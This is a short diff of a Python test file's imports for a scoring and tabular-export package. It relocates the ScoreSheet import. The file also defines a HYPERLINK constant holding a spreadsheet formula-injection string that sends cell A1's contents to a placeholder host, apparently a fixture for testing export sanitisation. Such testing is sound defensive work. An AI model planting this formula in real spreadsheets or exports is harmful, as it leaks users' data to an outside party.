@@ -12,8 +12,8 @@ from helpers import BRICKS
 
 from tpt_model import Catalogue
 from tpt_model.evaluation.scoring import REFERENCE_EVALUATOR, evaluate
+from tpt_model.evaluation.sheets import ScoreSheet
 from tpt_model.export.tabular import aggregate_frame, evaluation_frame, safe_cell, to_csv_bytes, to_xlsx_bytes
-from tpt_model.store.scores import ScoreSheet
 
 HYPERLINK = '=HYPERLINK("http://exemple.invalid/?d="&A1,"Cliquez")'
 BOM = b"\xef\xbb\xbf"
